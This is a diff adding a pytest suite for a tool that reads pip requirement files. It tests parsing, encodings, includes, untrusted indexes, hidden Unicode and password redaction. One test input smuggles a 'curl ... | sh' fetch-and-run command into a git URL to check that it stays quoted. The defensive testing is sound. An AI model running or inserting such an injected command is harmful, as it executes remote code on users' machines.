@@ -1,0 +1,282 @@
+"""Requirement files: options, includes, encodings, and what their authors may have meant badly."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from assistant.i18n import render
+from assistant.model.errors import BadInput
+from assistant.model.project import Project
+from assistant.project import read_project, read_text
+
+Read = Callable[..., Project]
+
+
+@pytest.fixture
+def read(tmp_path: Path) -> Read:
+    """Give a function that writes files and reads the first."""
+
+    def reader(
+        text: str | bytes, name: str = "requirements.txt", trusted: tuple[str, ...] = (), **more: str
+    ) -> Project:
+        path = tmp_path / name
+        path.write_bytes(text.encode() if isinstance(text, str) else text)
+        for other, content in more.items():
+            (tmp_path / f"{other}.txt").write_text(content, encoding="utf-8")
+        return read_project(str(path), trusted=trusted)
+
+    return reader
+
+
+def told(project: Project) -> str:
+    """Return all that was told, as one text."""
+    return "\n".join(map(render, project.left_out))
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("numpy", "numpy"),
+        ("  numpy >= 1.26 , < 2  # why", "numpy<2,>=1.26"),
+        ("fair-esm[esmfold]==2.0.0", "fair-esm[esmfold]==2.0.0"),
+        ('triton>=2;platform_machine=="x86_64" and sys_platform=="linux"',
+         'triton>=2; platform_machine == "x86_64" and sys_platform == "linux"'),
+        ("torch==2.7.0+cu128", "torch==2.7.0+cu128"),
+        ("torch==2.9.1 --hash=sha256:aa --hash=sha256:bb", "torch==2.9.1"),
+        ("numpy \\\n  >=1.26 \\\n  # a remark\n", "numpy>=1.26"),
+        ("https://h.example/a_b-1.0-py3-none-any.whl#sha256=00", "a-b @ https://h.example/a_b-1.0-py3-none-any.whl#sha256=00"),
+        ("x @ https://h.example/x-1.0%2Bcu128-py3-none-any.whl",
+         "x @ https://h.example/x-1.0%2Bcu128-py3-none-any.whl"),
+    ],
+)  # fmt: skip
+def test_a_line_is_read_as_pip_reads_it(read: Read, line: str, expected: str) -> None:
+    """Markers, extras, local versions, comments, continued lines and wheels by their address."""
+    assert read(line).requires == (expected,)
+
+
+@pytest.mark.parametrize("mark", ["utf-8-sig", "utf-16", "utf-16-le", "gb18030"])
+def test_any_encoding_is_read(read: Read, mark: str) -> None:
+    """PowerShell's UTF-16, a byte order mark and a Chinese code page change nothing."""
+    assert read("# 深度学习\nnumpy\r\ntorch==2.9.1\r\n".encode(mark)).requires == ("numpy", "torch==2.9.1")
+
+
+def test_included_files_are_read_in_their_place(read: Read) -> None:
+    """Lines of -r are requirements, those of -c are bounds; a cycle is read once."""
+    found = read("-r base.txt\n-c bounds.txt\nscipy\n", base="numpy\n-r requirements.txt\n", bounds="pandas<3\n")
+    assert (found.requires, found.constraints) == (("numpy", "scipy"), ("pandas<3",))
+    assert [Path(path).name for path in found.paths] == ["requirements.txt", "base.txt", "bounds.txt"]
+
+
+@pytest.mark.parametrize("scheme", ["https://h.example/", "ftp://h.example/"])
+def test_source_code_is_left_out_with_the_command_for_it(read: Read, scheme: str) -> None:
+    """Archives and repositories run their author's code when they are built."""
+    found = read(f"{scheme}a-1.tar.gz\ngit+https://h.example/b.git@1f#egg=b\n-e git+https://h.example/c.git#egg=c\nd\n")
+    assert found.requires == ("d",)
+    for address in (f"{scheme}a-1.tar.gz", "'git+https://h.example/b.git@1f#egg=b'", "git+https://h.example/c.git"):
+        assert f"`pip install {address}`" in told(found)
+
+
+def test_a_command_to_paste_holds_nothing_but_the_address(read: Read) -> None:
+    """Whatever a stranger writes behind an address stays within quotation marks."""
+    found = read('numpy\ngit+https://h.example/x.git"; curl h.example | sh; "\n')
+    assert """`pip install 'git+https://h.example/x.git"; curl h.example | sh; "'`""" in told(found)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        r"\\server\share\x-1-py3-none-any.whl",
+        "-e //server/share",
+        "-r //server/share/x.txt",
+        "x @ file://server/share/x-1-py3-none-any.whl",
+    ],
+)
+def test_no_other_computer_is_asked_for_a_file(read: Read, line: str) -> None:
+    """A share is not opened because a list names it: that would tell its owner who reads."""
+    found = read(f"numpy\n{line}\n")
+    assert found.requires == ("numpy",)
+    assert len(found.left_out) == 1
+
+
+def test_the_plan_chooses_the_index_of_torch(read: Read) -> None:
+    """Torch's own indexes and PyPI are not taken along; another one needs the user's word."""
+    own, pypi = "https://company.example/simple", f"https://pypi.{'org'}/simple/"
+    text = f"--index-url {pypi}\n--extra-index-url https://download.pytorch.org/whl/cu121\n--extra-index-url {own}\nx\n"
+    found = read(text)
+    assert found.indexes == ()
+    assert "whl/cu121 was not taken" in told(found)
+    assert f"{own} is not known" in told(found)
+    assert pypi not in told(found)
+    assert read(text, trusted=(own,)).indexes == (own,)
+
+
+def test_wheels_elsewhere_need_the_users_word(read: Read, tmp_path: Path) -> None:
+    """A folder or page that the file names is taken only where the user names it, too."""
+    page = "https://h.example/whl/torch-2.9.html"
+    text = f"--find-links wheels\n-f {page}\n"
+    assert read(text).links == ()
+    assert read(text, trusted=(page, str(tmp_path / "wheels"))).links == (str(tmp_path / "wheels"), page)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--extra-index-url https://me:hunter2secret@h.example/simple",
+        "-f https://me:hunter2secret@h.example/page.html",
+        "x @ https://me:hunter2secret@h.example/x-1-py3-none-any.whl",
+        "git+https://me:hunter2secret@h.example/x.git",
+        "https://me:hunter2secret@h.example/x.tar.gz",
+        "--index-url https://me:hunter2secret@download.pytorch.org/whl/cu121",
+    ],
+)
+def test_a_password_is_neither_taken_nor_shown(read: Read, line: str) -> None:
+    """What stands before the @ of an address stays where it is."""
+    found = read(line, trusted=("https://h.example/simple", "https://h.example/page.html"))
+    assert found.left_out
+    assert "hunter2secret" not in told(found) + repr(found)
+
+
+def test_hashes_of_torch_are_told(read: Read) -> None:
+    """They name the files of one index, and a plan may take another build."""
+    found = read("torch==2.9.1 --hash=sha256:aa\nnumpy==2.2 --hash=sha256:bb\n")
+    assert "The hashes of 2 packages were not taken along" in told(found)
+    assert "The hashes of torch name the builds of one index" in told(found)
+
+
+@pytest.mark.parametrize(
+    ("line", "words"),
+    [
+        ("--pre", "pre-release"),
+        ("--no-binary=opencc", "--no-binary opencc"),
+        ("--trusted-host h.example", "--trusted-host"),
+        ("--extra-index-url https://${TOKEN}@h.example/simple", "password"),
+        ("x @ https://h.example/${TOKEN}/x-1-py3-none-any.whl", "variable"),
+        ("pytz>dev", "not a requirement"),
+        ("torch 2.0", "not a requirement"),
+        ("nump\u200by", "cannot be seen"),
+        ("to\u202erch", "cannot be seen"),
+        ('x; sys_platform == "li\\u202enux"', "cannot be seen"),
+        ("t\u043erch", "not a requirement"),  # a Cyrillic o
+        ("./not-there", "not there"),
+        ("not-there.whl", "not there"),
+        ("-e nowhere", "not there"),
+        ("https://h.example/nonsense.whl", "not that of a wheel"),
+        ("-r https://h.example/more.txt", "on the network"),
+        ("x @ ../y", "no plain address"),
+        ("--index-url not-an-address", "does not begin"),
+        ("--nonsense", "--nonsense"),
+        ('--hash="', ""),
+    ],
+)
+def test_what_cannot_be_taken_along_is_told(read: Read, line: str, words: str) -> None:
+    """One sentence each; the other lines stay."""
+    found = read(f"numpy\n{line}\nscipy\n")
+    assert found.requires == ("numpy", "scipy")
+    assert words in told(found)
+
+
+def test_code_of_the_project_itself_is_not_built(read: Read, tmp_path: Path) -> None:
+    """`-e .` stands for what its pyproject declares, its extras included, and the command for afterwards is told."""
+    (tmp_path / "pyproject.toml").write_text(
+        '[project]\nname="mine"\ndependencies=["einops"]\noptional-dependencies={train=["wandb"]}\n'
+    )
+    found = read("numpy\n-e .[train]\n")
+    assert found.requires == ("numpy", "einops", "wandb")
+    assert "`pip install --no-deps -e .`" in told(found)
+
+
+def test_a_wheel_beside_the_file_is_kept(read: Read, tmp_path: Path) -> None:
+    """By its address, under its own name."""
+    (tmp_path / "a_b-1.0-py3-none-any.whl").write_bytes(b"")
+    assert read("./a_b-1.0-py3-none-any.whl").requires == (f"a-b @ {(tmp_path / 'a_b-1.0-py3-none-any.whl').as_uri()}",)
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        (b"numpy\0\n" * 9, "binary"),
+        (b"\x7fELF" + bytes(range(256)) * 9, "binary"),
+        (b"PK\x03\x04 zip", "binary"),
+        (b"-r gone.txt\n", "gone.txt, which"),
+        (b"<!DOCTYPE html>\n<html>\n<p>404</p>\n", "most of its lines are no requirements"),
+        (b"# Title\n\nInstall it with pip.\nThen run it.\nDone\n", "most of its lines are no requirements"),
+        (b"x y\n" * 20_000, "more than 10000 requirements"),
+    ],
+)
+def test_what_is_no_list_is_refused(read: Read, text: bytes, words: str) -> None:
+    """One sentence names the file and the reason."""
+    with pytest.raises(BadInput, match=words):
+        read(text)
+
+
+def test_a_huge_file_is_refused(tmp_path: Path) -> None:
+    """50 MB are not read."""
+    with (tmp_path / "requirements.txt").open("wb") as file:
+        file.truncate(50 * 10**6)
+    with pytest.raises(BadInput, match="longer than 10 MB"):
+        read_project(str(tmp_path / "requirements.txt"))
+    with pytest.raises(BadInput, match="longer than 10 MB"):
+        read_text("requirements.txt", "x" * 11 * 10**6)
+
+
+@pytest.mark.parametrize("shape", ["wide", "deep"])
+def test_includes_without_end_are_refused(read: Read, tmp_path: Path, shape: str) -> None:
+    """10,000 files are not read, whether one names all of them or each the next."""
+    for number in range(300):
+        (tmp_path / f"{number}.txt").write_text(f"-r {number + 1}.txt\n" if shape == "deep" else "numpy\n")
+    with pytest.raises(BadInput, match="more than 100 files"):
+        read("".join(f"-r {number}.txt\n" for number in range(300)))
+
+
+@pytest.mark.skipif(os.name == "nt", reason="Windows has no such files")
+def test_a_pipe_or_a_folder_is_no_list(tmp_path: Path) -> None:
+    """A pipe does not block, and a folder of the name is read as a folder."""
+    os.mkfifo(tmp_path / "pipe.txt")
+    with pytest.raises(BadInput, match="regular file"):
+        read_project(str(tmp_path / "pipe.txt"))
+    (tmp_path / "requirements.txt").mkdir()
+    with pytest.raises(BadInput, match="holds no file that lists packages, and no code"):
+        read_project(str(tmp_path / "requirements.txt"))
+    with pytest.raises(BadInput, match="holds no file that lists packages, and no code"):
+        read_project(str(tmp_path))
+
+
+@pytest.mark.parametrize("name", ["gone.txt", "a\0b.txt", "https://h.example/requirements.txt", ""])
+def test_a_name_that_leads_nowhere_is_refused(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """One sentence, whatever the name."""
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(BadInput):
+        read_project(name)
+
+
+def test_a_text_that_came_alone_names_nothing_beside_it() -> None:
+    """What an upload includes is told."""
+    found = read_text("requirements.txt", b"numpy\n-r base.txt\n-e .\n./x.whl\n")
+    assert found.requires == ("numpy",)
+    assert len(found.left_out) == 3
+
+
+@pytest.mark.process
+def test_pip_reads_the_same(read: Read, tmp_path: Path) -> None:
+    """Of a file without traps, pip's own parser finds the same requirements."""
+    text = (
+        "# top\nnumpy>=1.26 # why\n  scipy\n\ntorch==2.9.1 \\\n    --hash=sha256:aa\n"
+        'triton>=3;sys_platform=="linux"\nfair-esm[esmfold]\n-r more.txt\n'
+    )
+    found = read(text, more="pandas\n")
+    program = (
+        "import sys; from pip._internal.network.session import PipSession;"
+        "from pip._internal.req.req_file import parse_requirements;"
+        "from packaging.requirements import Requirement;"
+        "print(*[Requirement(one.requirement) for one in parse_requirements(sys.argv[1], PipSession())], sep='\\n')"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", program, tmp_path / "requirements.txt"], capture_output=True, text=True, check=True
+    )
+    assert done.stdout.splitlines() == list(found.requires)
